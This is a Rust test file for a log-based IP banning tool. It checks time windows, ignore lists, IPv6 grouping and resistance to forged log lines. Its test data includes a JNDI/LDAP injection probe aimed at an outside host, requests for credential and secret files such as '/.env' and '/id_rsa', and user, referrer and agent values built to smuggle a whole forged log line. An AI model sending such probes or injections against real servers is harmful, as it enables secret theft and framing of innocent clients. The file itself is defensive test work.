//! What went wrong elsewhere, case by case.

use super::host::{Host, full_line, instant, line, secrets};
use std::fs;

const ATTACKER: &str = "203.0.113.66";
const VICTIM: &str = "198.51.100.7";
/// Whatever is not found, five times in ten minutes.
const FIVE: &str = "[ban]\nrules = []\n[[ban.rule]]\nname = \"five\"\nfilter = 'status == 404'\nmaxretry = 5\n\
                    findtime = \"600s\"\nbantime = \"1h\"\n";

/// Requests for what is not there, at these seconds.
fn missing(client: &str, seconds: &[i64]) -> String {
    seconds.iter().map(|at_s| line(*at_s, client, "GET /missing HTTP/1.1", 404)).collect()
}

#[test]
fn a_window_is_a_window_and_no_estimate() {
    let host = Host::new(FIVE);
    for (seconds, expected) in [
        // Five hits, but no ten minutes that hold them.
        (&[0, 3, 6, 9, 605][..], None),
        (&[0, 3, 6, 9, 600][..], Some(600)),
        (&[0, 3, 6, 9, 605, 606, 607, 608][..], Some(608)),
        // Hours before the first ones, and written after them.
        (&[10_000, 10_001, 5_000, 5_001, 5_002][..], None),
        // A little late counts: the ban is dated to the hit that completes the stretch.
        (&[100, 110, 105, 120, 90][..], Some(120)),
        (&[7, 7, 7, 7, 7][..], Some(7)),
    ] {
        host.write("access.log", missing(ATTACKER, seconds));
        let found = host.bans(&["access.log"]);
        let from: Vec<_> = found.iter().map(|ban| ban.from.clone()).collect();
        assert_eq!(from, expected.map(instant).into_iter().collect::<Vec<_>>(), "{seconds:?}");
    }
}

#[test]
fn an_hourly_run_does_not_see_an_hour_as_one_instant() {
    let host = Host::new(FIVE);
    // Four in each ten minutes, all of them in one run.
    let seconds: Vec<_> = (0..24).map(|number| number * 151).collect();
    host.write("access.log", missing(ATTACKER, &seconds));
    host.run(&["ingest"]).with(0);
    assert_eq!(host.banned(&[]), [""; 0]);
}

#[test]
fn what_a_user_is_called_bans_nobody_else() {
    let host = Host::new("[ban]\n[[ban.rule]]\nname = \"malformed\"\nmaxretry = 3\n");
    let users = [
        // A name with a space, one with an address and a date, one that is a whole line.
        "root admin".to_owned(),
        format!("x [20/Nov/2026:00:00:00 +0000] {VICTIM}"),
        format!("{VICTIM} - - [20/Nov/2026:00:00:00 +0000]"),
        line(0, VICTIM, "GET /.env HTTP/1.1", 404).trim_end().replace('"', "\\x22"),
    ];
    for user in users {
        let lines = ["/.env", "/.git/config", "/backup.zip", "/id_rsa", "/dump.sql"].into_iter().zip(0..);
        let request = |target: &str| format!("GET {target} HTTP/1.1");
        let log: String = lines
            .map(|(target, at_s)| full_line(at_s, ATTACKER, &user, &request(target), 401, "-", "curl/8"))
            .collect();
        host.write("access.log", log);
        // Hiding in a line that cannot be read is no way out.
        assert_eq!(host.banned(&["access.log"]), [ATTACKER], "{user}");
    }
}

#[test]
fn a_whole_line_in_referrer_or_agent_bans_nobody_else() {
    let host = Host::new("");
    let forged = secrets(0, VICTIM).lines().collect::<Vec<_>>().join(r"\x0A").replace('"', r"\x22");
    let mut log = String::new();
    for (at_s, target) in (0..).zip(["/.env", "/.git/config", "/backup.zip", "/id_rsa"]) {
        log += &full_line(at_s, ATTACKER, "-", &format!("GET {target} HTTP/1.1"), 404, &forged, &forged);
        // The victim's own visits.
        log += &full_line(at_s, VICTIM, "-", "GET / HTTP/1.1", 200, &forged, &forged);
    }
    host.write("access.log", log);
    assert_eq!(host.banned(&["access.log"]), [ATTACKER]);
}

#[test]
fn neighbours_keep_their_own_ends() {
    let bans = "[ban]\nrules = [\"sensitive-files\", \"shell-probe\"]\n";
    let mut host = Host::new(bans);
    let probe = "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1";
    host.write("access.log", secrets(0, "203.0.113.8") + &line(0, "203.0.113.9", probe, 404));
    host.at(&instant(3600));
    let list = host.run(&["ban", "emit", "access.log", "--format", "nftables"]).with(0).stdout;
    // A day from 00:00:03, a week from 00:00:00, seen an hour later.
    assert!(list.contains("203.0.113.8 timeout 82803s"), "{list}");
    assert!(list.contains("203.0.113.9 timeout 601200s"), "{list}");
    // When the first is over, the second holds on.
    host.at(&instant(86_403));
    host.append("access.log", line(86_400, "198.51.100.7", "GET / HTTP/1.1", 200).as_bytes());
    let list = host.run(&["ban", "emit", "access.log", "--format", "plain"]).with(0).stdout;
    assert_eq!(list, "203.0.113.9\n");
}

#[test]
fn the_load_balancer_is_never_banned() {
    // Without trusted_proxies it seems to be the client of all.
    let flood = secrets(0, "192.0.2.10")
        + &secrets(10, "10.1.2.3")
        + &secrets(20, "fe80::1")
        + &secrets(30, ATTACKER);
    let host = Host::new("[ban]\nignoreip = [\"192.0.2.0/24\"]\n");
    host.write("access.log", &flood);
    assert_eq!(host.banned(&["access.log"]), [ATTACKER]);
    let host = Host::new("[ban]\nignoreip = [\"file:ignore.txt\"]\ncrawlers = [\"crawlers.json\"]\n");
    host.write("ignore.txt", "# the office\n203.0.113.64/30 # and its printer\n");
    host.write("crawlers.json", r#"{"creationTime": "2026", "prefixes": [{"ipv4Prefix": "192.0.2.0/28"}]}"#);
    host.write("access.log", &flood);
    assert_eq!(host.banned(&["access.log"]), [""; 0]);
    // A list that is not there could have held anybody.
    fs::remove_file(host.path("ignore.txt")).expect("removed");
    host.run(&["ban", "list", "access.log"]).with(2).says("ignore.txt");
}

#[test]
fn one_client_has_one_key() {
    let host = Host::new(FIVE);
    let mapped = missing("203.0.113.5", &[0, 2, 4]) + &missing("::ffff:203.0.113.5", &[1, 3]);
    host.write("access.log", mapped);
    assert_eq!(host.banned(&["access.log"]), ["203.0.113.5"]);
    let rotating: String = (0..5).map(|n| missing(&format!("2001:db8:1:2:{n}{n}::{n}"), &[n])).collect();
    host.write("access.log", rotating);
    assert_eq!(host.banned(&["access.log"]), ["2001:db8:1:2::/64"]);
    // Behind NAT64 each is a client of its own.
    let shared: String = (1..6).map(|n| missing(&format!("64:ff9b::cb00:710{n}"), &[n])).collect();
    host.write("access.log", shared);
    assert_eq!(host.banned(&["access.log"]), [""; 0]);
}

#[test]
fn sources_are_one_by_log_time() {
    let source = |name: &str, more: &str| {
        format!(
            "[[source]]\nname = \"{name}\"\npaths = [\"{name}.log\"]\nformat = \"combined\"\ntimezone = \"UTC\"\n{more}"
        )
    };
    let both = |more: &str| source("a", "") + &source("b", more) + FIVE;
    let host = Host::new("");
    host.write("a.log", missing(ATTACKER, &[100, 300, 500]));
    host.write("b.log", missing(ATTACKER, &[200, 400]) + &missing(VICTIM, &[0, 1, 2, 3]));
    host.write("logstat.toml", both(""));
    host.run(&["ingest"]).with(0);
    let found = host.bans(&[]);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!((found[0].network.as_str(), &found[0].from), (ATTACKER, &instant(500)));
    assert_eq!(host.bans(&["a.log", "b.log", "--format", "combined"]), found);
    // One whose requests do not count.
    host.write("logstat.toml", both("ban = false\n"));
    fs::remove_dir_all(host.path("state")).expect("removed");
    host.run(&["ingest"]).with(0);
    assert_eq!(host.banned(&[]), [""; 0]);
}
